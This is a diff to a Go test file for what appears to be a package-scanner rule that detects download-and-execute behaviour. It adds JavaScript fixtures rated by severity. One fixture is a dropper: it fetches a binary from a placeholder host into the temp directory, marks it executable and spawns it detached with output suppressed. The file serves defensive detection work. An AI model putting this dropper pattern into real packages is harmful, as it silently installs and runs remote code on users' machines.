@@ -23,6 +23,21 @@ func TestDownloadExecute(t *testing.T) {
 		// The same installer fetching from a host that is not the project's
 		// registry (nor a well-known download host) is not trusted.
 		{"unknown_host_binary", map[string]string{"install.js": strings.Replace(binaryInstaller, "registry.npm.local", "dl.example.invalid", 1), "package.json": rt.Pkg(`"scripts":{"postinstall":"node install.js"}`)}, finding.SeverityMedium},
+		// an unknown host and a temp directory together: a dropper
+		{"unknown_host_temp", map[string]string{"index.js": `const https = require("https"), fs = require("fs"), { spawn } = require("child_process");
+const f = require("os").tmpdir() + "/svc";
+https.get("https://dl.example.invalid/bin/linux", r => { const w = fs.createWriteStream(f); r.pipe(w); w.on("finish", () => { fs.chmodSync(f, 0o755); spawn(f, [], { detached: true, stdio: "ignore" }).unref() }) })`}, finding.SeverityHigh},
+		// a runtime fetched into a temp directory and run in the open
+		{"unknown_host_temp_visible", map[string]string{"index.js": `const https = require("https"), fs = require("fs"), { spawn } = require("child_process");
+const f = require("os").tmpdir() + "/jre.tgz";
+https.get("https://api.runtime.example.invalid/v3/binary/latest", r => r.pipe(fs.createWriteStream(f))); spawn("java", ["-jar", "app.jar"], { stdio: "inherit" })`}, finding.SeverityMedium},
+		// a dev server requesting itself downloads nothing
+		{"localhost", map[string]string{"index.js": `const http = require("http"), fs = require("fs"), { spawn } = require("child_process");
+const f = require("os").tmpdir() + "/x"; http.get("http://localhost:8080/status", r => r.pipe(fs.createWriteStream(f))); spawn("open", [url])`}, finding.SeverityLow},
+		// a well-known download host into a temp directory is an installer
+		{"trusted_host_temp", map[string]string{"index.js": `const https = require("https"), fs = require("fs"), { execFileSync } = require("child_process");
+const f = require("os").tmpdir() + "/tool";
+https.get("https://github.com/o/r/releases/download/v1/tool-linux", r => r.pipe(fs.createWriteStream(f))); execFileSync(f, ["--version"])`}, finding.SeverityLow},
 		{"download_only", map[string]string{"index.js": `require("https").get("https://x.invalid/f", r => r.pipe(require("fs").createWriteStream("f")))`}, finding.SeverityNone},
 	})
 }
